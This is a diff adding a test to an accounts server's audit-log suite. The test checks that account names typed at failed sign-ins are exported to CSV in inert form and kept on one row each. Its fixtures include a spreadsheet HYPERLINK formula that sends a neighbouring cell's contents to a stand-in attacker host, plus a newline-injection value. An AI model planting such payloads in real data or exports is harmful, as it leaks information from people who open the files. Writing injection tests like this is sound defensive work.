@@ -1,6 +1,7 @@
 import { ACCOUNT_PATHS, type AuditPage } from '../../../src/shared/accounts.types';
 import { signIn, type EditorClient } from '../authoring/support/editor-client';
-import { expectErrorBody } from '../support/http-client';
+import { FORMULA_START, readCsv } from '../support/csv-reader';
+import { expectErrorBody, postForm } from '../support/http-client';
 import type { SqlValue } from '../support/test-engine';
 import type { TestServer } from '../support/test-server';
 import { startAccountsServer } from './support/accounts-server';
@@ -130,5 +131,31 @@ describe('audit log for administrators', () => {
     expect(await again.text()).toContain(`,暫存,"'=HYPERLINK(""http://x.example"")",5,`);
     expect(lines).toHaveLength(6);
     expect((await editor.send('GET', ACCOUNT_PATHS.auditCsv)).status).toBe(403);
+  });
+
+  it('keeps account names typed at a failed sign-in inert and on one row each', async () => {
+    const planted = ['=HYPERLINK("http://evil.example/?"&A2,"開啟")', 'nobody\n=1+2'];
+    for (const account of planted) {
+      const login = await postForm(`${server.baseUrl}/backend/oauth/token`, {
+        account,
+        password: 'wrong',
+        'g-recaptcha-response': '',
+        grant_type: 'password',
+      });
+      expect(login.status).toBe(401);
+    }
+    const response = await fetch(`${server.baseUrl}${ACCOUNT_PATHS.auditCsv}?action=login.failure`, {
+      headers: { access_token: admin.token },
+    });
+    const rows = readCsv(await response.text());
+    expect(rows[0]).toEqual(['時間', '帳號', '動作', '文件', '版本', '說明', 'IP']);
+    // Every row starts with its time, so none begins inside a cell, and every row has all columns.
+    for (const row of rows.slice(1)) {
+      expect(row[0]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
+      expect(row).toHaveLength(7);
+    }
+    const accounts = rows.slice(1).map((row) => row[1]);
+    expect(accounts).toEqual(expect.arrayContaining([`'${planted[0]}`, planted[1]]));
+    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
   });
 });
